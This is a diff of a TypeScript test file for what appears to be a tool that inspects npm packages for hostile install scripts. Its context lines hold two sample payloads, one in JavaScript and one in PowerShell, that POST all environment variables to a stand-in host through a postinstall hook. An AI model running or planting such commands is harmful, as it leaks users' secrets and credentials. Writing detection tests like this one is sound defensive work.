@@ -2,7 +2,7 @@ import t from 'tap'
 import { inspect } from '../../src/inspection/inspect.ts'
 import { sha256 } from '../../src/model/digest.ts'
 import type { ContentFacts } from '../../src/model/fact.ts'
-import { readingOf } from './python-reading.ts'
+import { packedReading } from './python-reading.ts'
 
 const SENDS = `fetch('https://c.example/', { method: 'POST', body: JSON.stringify(process.env) })\n`
 const POWERSHELL_SENDS = 'iwr https://c.example/ -Method Post -Body (Get-ChildItem env: | Out-String)\n'
@@ -11,10 +11,10 @@ const SCRIPT_HOST =
 
 type Files = Readonly<Record<string, string>>
 
-function installedBy(command: string, files: Files): Promise<ContentFacts> {
+async function installedBy(command: string, files: Files): Promise<ContentFacts> {
   const manifest = { name: 'sample', version: '1.0.0', scripts: { postinstall: command } }
   const all = { 'package.json': JSON.stringify(manifest), ...files }
-  return inspect(readingOf('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
+  return inspect(await packedReading('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
 }
 
 /** How PowerShell is given a file of the package, whatever its name. */
